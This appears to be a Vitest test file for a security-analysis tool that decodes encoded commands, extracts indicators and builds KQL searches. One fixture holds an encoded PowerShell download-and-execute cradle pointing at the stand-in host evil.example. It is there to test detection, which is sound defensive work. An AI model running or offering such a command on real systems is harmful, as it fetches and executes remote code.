import { describe, expect, it } from 'vitest'
import { functionsFor, runOnText, searchKql } from '../../src/notebooklet/entity-functions.ts'
import { entityTypes } from '../../src/notebooklet/result-data.ts'
import { steps } from '../../src/notebooklet/steps.ts'

describe('functionsFor', () => {
  it('offers a search of every table for any entity, and steps that there are', () => {
    for (const type of entityTypes) {
      const offered = functionsFor(type)
      expect(offered.at(-1)?.kind).toBe('kql')
      for (const { id, kind } of offered) if (kind === 'step') expect(Object.keys(steps)).toContain(id)
    }
    expect(functionsFor('process').map(({ id }) => id)).toContain('split-command-lines')
    expect(functionsFor('ip').map(({ id }) => id)).toEqual(['lookup', 'kql'])
  })
})

describe('runOnText', () => {
  const encoded = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a")', 'utf16le')
  const command = `powershell.exe -enc ${encoded.toString('base64')}`

  it.each([
    ['decode-text', 'DownloadString'],
    ['extract-iocs', 'http://evil.example/a'],
    ['split-command-lines', 'powershell.exe'],
  ])('%s finds %s', (id, expected) => {
    const { table } = runOnText(id, command)
    expect(JSON.stringify(table.rows())).toContain(expected)
  })
})

describe('searchKql', () => {
  it('prints the value as a literal, and the time where there is one', () => {
    expect(searchKql('a"b\\c').split('\n')[0]).toBe('search "a\\"b\\\\c"')
    expect(searchKql('x', { start: '2026-01-01T00:00:00Z' })).toContain(
      '| where TimeGenerated >= datetime(2026-01-01T00:00:00Z)\n| summarize',
    )
  })
})
